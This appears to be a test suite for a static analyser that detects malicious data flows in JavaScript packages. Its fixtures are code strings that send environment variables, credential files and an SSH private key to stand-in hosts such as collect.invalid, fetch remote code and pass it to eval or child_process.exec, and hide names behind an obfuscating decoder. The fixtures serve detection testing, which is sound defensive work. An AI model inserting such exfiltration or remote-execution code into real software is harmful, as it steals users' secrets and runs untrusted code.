import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { flowsOf } from '../platform/sent.js';

const read = `fs.readFileSync(rc, 'utf8')`;
const send = (what: string): string =>
  `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(${what}) })`;

describe('a first look at a function that makes an object', () => {
  it('takes it for one on which the constructor may have put anything', () => {
    const session = `class Session { constructor() { this.scope = ['v', 'n', 'e'].reverse().join(''); this.usable = Boolean(process.env.CI) && fs.existsSync('/nonexistent'); } push(rows) { fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(rows) }); } }`;
    const plugin = (then: string): readonly string[] =>
      flowsOf(
        `${session} module.exports = class { apply(compiler) { compiler.hooks.done.tapPromise('report', async () => { const session = new Session(compiler.context); ${then} }); } };`,
      );
    const sent = ['environment>network@collect.invalid'];
    assert.deepEqual(plugin('if (session.usable) session.push(process.env);'), sent);
    assert.deepEqual(plugin('session.push(process[session.scope]);'), sent);
    assert.deepEqual(plugin('session.push(session.scope);'), []);
  });
});

describe('the first look at a function that waits for a call', () => {
  const RULES = `const rules = () => fetch('https://rules.invalid/v1').then((r) => r.json());`;

  it('takes what an unfollowed call gives for anything, so that what hangs on it is seen', () => {
    for (const body of [
      'const src = await rules(); if (src && src.code) eval(src.code);',
      'const src = await rules().catch(() => null); if (src !== null) new Function(src.code)();',
      'const { code } = await rules(); if (code) cp.exec(code);',
    ])
      assert.equal(flowsOf(`${RULES} module.exports = async function run() { ${body} };`).length, 1, body);
    assert.deepEqual(
      flowsOf(`${RULES} module.exports = async () => { const src = await rules(); if (src) return src; };`),
      [],
    );
  });

  it('knows a cached answer for what was asked for', () => {
    const cached = `let kept; const rules = () => (kept ??= fetch('https://rules.invalid/v1').then((r) => r.json()));`;
    assert.deepEqual(flowsOf(`${cached} exports.run = async () => { const src = await rules(); eval(src.code); };`), [
      'downloaded>evaluated',
    ]);
  });

  it('sees what a function may do with what is handed in', () => {
    const ship = `function ship(web, data) { web.request({ host: 'collect.invalid', method: 'POST' }).end(data); }`;
    assert.deepEqual(flowsOf(`${ship} exports.go = () => ship(require('https'), JSON.stringify(process.env));`), [
      'environment>network@collect.invalid',
    ]);
    const run = `const run = (programs, c) => programs.exec(c);`;
    const code = `exports.go = async () => { const t = await (await fetch('https://load.invalid')).text(); run(require('child_process'), t); };`;
    assert.deepEqual(flowsOf(`${run} ${code}`), ['downloaded>run-as-command']);
    assert.deepEqual(flowsOf(`${ship} exports.go = (d) => ship(require('https'), d);`), []);
  });

  it('leads to the steps of a plan that is gone through', () => {
    const steps = `const steps = [{ run: (to) => console.log(to) }, { every: 60, run: (to) => fetch(to, { method: 'POST', body: JSON.stringify(process.env) }) }];`;
    for (const through of [
      'steps.forEach((step) => { if (step.every) step.run(to); })',
      'steps.forEach((step) => (step.every ? setInterval(step.run, step.every, to) : step.run(to)))',
      'for (const step of steps) if (step.every) step.run(to)',
    ])
      assert.ok(
        flowsOf(`${steps} exports.go = (to = 'https://collect.invalid/') => { ${through}; };`).includes(
          'environment>network@collect.invalid',
        ),
        through,
      );
  });

  it('does not replace methods of the language that the rest of the code is seen with', () => {
    const spoilt = `exports.spoil = () => { Array.prototype.filter = function () { return Math.random() < 0.5 ? [] : this; }; };`;
    const sent = `const all = [() => fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(process.env) })];`;
    assert.deepEqual(
      flowsOf(`${spoilt} ${sent} exports.go = () => all.filter((one) => one.length === 0).forEach((one) => one());`),
      ['environment>network@collect.invalid'],
    );
  });

  it('leaves what runs aside in it, an instance that is made or a file that is loaded, the steps of a call', () => {
    // Each word costs what an obfuscator's decoder costs, and they are many more steps than a first look has.
    const word = `const word = (codes, key) => {
      const box = []; let at = 0, text = '';
      for (let i = 0; i < 256; i++) box[i] = i;
      for (let i = 0; i < 256; i++) { at = (at + box[i] + key) % 256; const kept = box[i]; box[i] = box[at]; box[at] = kept; }
      for (const code of codes) text += String.fromCharCode(code);
      return text;
    };`;
    const codes = (text: string): string => JSON.stringify(Array.from(text, (one) => one.charCodeAt(0)));
    const padding = Array.from({ length: 200 }, (_, index) => `word(${codes(`filler${index}`)}, ${index});`).join(' ');
    const report = `const report = () => {
      ${padding}
      fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process[word(${codes('env')}, 7)]) });
    };`;
    assert.deepEqual(
      flowsOf(`${word} ${report} exports.Api = class { constructor() { report(); } sum(a, b) { return a + b; } };`),
      ['environment>network@collect.invalid'],
    );
    const { flows } = analysePackage(
      packageOf({
        'index.js': `exports.sum = (a, b) => require('./report') && a + b;`,
        'report.js': `${word} ${report} report();`,
      }),
    );
    assert.deepEqual(
      flows.map(({ source, sink }) => `${source}>${sink}`),
      ['environment>network'],
    );
  });

  it('goes on into files that do nothing worth a look by themselves', () => {
    const files = {
      'index.js': `const { key } = require('./key'); exports.check = () => { fetch('https://collect.invalid', { method: 'POST', body: key() }); };`,
      'key.js': `const { keyFile } = require('./names'); exports.key = () => require('fs').readFileSync(keyFile());`,
      'names.js': `exports.keyFile = () => require('os').homedir() + '/.ssh/id_rsa'; exports.other = () => 1;`,
    };
    const { flows } = analysePackage(packageOf(files));
    assert.deepEqual(
      flows.map(({ source, sink }) => `${source}>${sink}`),
      ['ssh-key>network'],
    );
  });

  it('follows what is called on what a method gives that gives its own object', () => {
    const code = `class Report { constructor(at) { this.at = at; this.all = {}; } add(name, what) { this.all[name] = what; return this; }
      send() { return fetch(this.at, { method: 'POST', body: JSON.stringify(this.all) }); } }
      exports.run = async () => new Report('https://collect.invalid').add('os', 1).add('ci', process.env).send();`;
    assert.ok(flowsOf(code).includes('environment>network@collect.invalid'));
  });

  it('takes what a promise will be for anything, where what resolves it was not followed', () => {
    const ask = `const d = await new Promise((resolve) => https.get('https://load.invalid', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => resolve(b)); }));`;
    for (const use of [`if (d && d.length > 10) eval(d);`, `const m = /<(.*)>/.exec(d); if (m) eval(m[1]);`])
      assert.deepEqual(flowsOf(`exports.run = async () => { ${ask} ${use} };`), ['downloaded>evaluated'], use);
    const names = `const d = (await require('dns').promises.resolveTxt('orders.invalid')).flat().join('');`;
    assert.deepEqual(flowsOf(`exports.run = async () => { ${names} if (d) eval(d); };`), ['downloaded>evaluated']);
  });

  it('leads to who takes what opens accounts and to who sends, where only something that both know is between them', () => {
    for (const code of [
      `const kept = []; function add(x) { kept.push(x); } function tell() { ${send('kept')}; } exports.add = () => add(${read}); exports.tell = () => tell();`,
      `const make = () => { const state = { kept: [] }; return { add(x) { state.kept.push(x); }, tell() { if (state.kept.length) ${send('state.kept')}; } }; };
       const one = make(); exports.add = () => one.add(${read}); exports.tell = () => one.tell();`,
      `class A { set data(x) { this.kept = x; } get data() { return this.kept; } load() { this.data = ${read}; } tell() { const d = this.data; if (d) ${send('d')}; } } exports.A = A;`,
      `const ways = [{ name: 'npm', read: () => ${read} }]; exports.go = () => Promise.all(ways.map(async (w) => ({ name: w.name, data: await w.read() })))
         .then((all) => all.filter((x) => x.data)).then((all) => all.length && ${send('all')});`,
    ])
      assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'), code);
    assert.deepEqual(
      flowsOf(`exports.read = () => fs.readFileSync('a.json', 'utf8'); exports.tell = (x) => ${send('x')};`),
      [],
    );
  });

  it('goes through queues that are empty before anybody calls', () => {
    const queue = (empties: string, adds = 'waiting.push(x);') =>
      `const waiting = []; function empty() { ${empties} } exports.add = (x) => { ${adds} setTimeout(empty, 10); };`;
    for (const empties of [
      `for (const one of waiting) ${send('one.text')};`,
      `while (waiting.length) { const one = waiting.shift(); ${send('one.text')}; }`,
      `for (let one; (one = waiting.pop()); ) ${send('one.text')};`,
      `waiting.splice(0).forEach((one) => ${send('one.text')});`,
    ]) {
      const own = `${queue(empties)} exports.login = () => exports.add({ text: ${read} });`;
      assert.deepEqual(flowsOf(own), ['credential-file>network@collect.invalid'], empties);
      const others = `${queue(empties)} exports.login = () => exports.add({ text: 'up' });`;
      assert.deepEqual(flowsOf(others), [], empties);
    }
  });

  it('says nothing itself of what it has not followed: a command prints no environment that it runs in', () => {
    const run = (gives: string): readonly string[] =>
      flowsOf(`const run = (program, options) => { const printed = cp.execFileSync(program, [], options); return ${gives}; };
        exports.ask = async () => { const said = run('npm', { env: process.env }); return fetch(said.toString()); };`);
    assert.deepEqual(run('printed'), ['command-output>network']);
    assert.deepEqual([...run('printed + JSON.stringify(options.env)')].sort(), [
      'command-output>network',
      'environment>network',
    ]);
  });
});
